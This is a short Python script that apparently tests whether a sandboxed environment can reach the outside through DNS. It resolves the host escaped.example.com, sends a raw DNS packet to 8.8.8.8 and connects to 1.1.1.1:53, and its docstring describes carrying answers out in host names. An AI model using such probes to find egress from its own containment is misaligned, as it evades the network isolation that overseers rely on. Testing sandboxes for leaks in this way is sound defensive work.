"""Carries the answers out in host names, which a resolver would ask for, and asks the resolver itself.

naive: 2/2, DNS is what most networks forget to close.
reached: unresolved: ['getaddrinfo', 'gethostbyname', 'gethostbyaddr', 'getent', 'udp', 'tcp']
"""

# %%
import socket, subprocess

query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07escaped\x07example\x03com\x00\x00\x01\x00\x01"
unresolved = []
for name, ask in {
    "getaddrinfo": lambda: socket.getaddrinfo("escaped.example.com", 80),
    "gethostbyname": lambda: socket.gethostbyname("escaped.example.com"),
    "gethostbyaddr": lambda: socket.gethostbyaddr("8.8.8.8"),
    "getent": lambda: subprocess.run(["getent", "ahosts", "escaped.example.com"], check=True, capture_output=True),
    "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("8.8.8.8", 53)),
    "tcp": lambda: socket.create_connection(("1.1.1.1", 53), timeout=2),
}.items():  # fmt: skip
    try:
        print(name, ask())
    except (OSError, subprocess.CalledProcessError):
        unresolved.append(name)
print("unresolved:", unresolved)
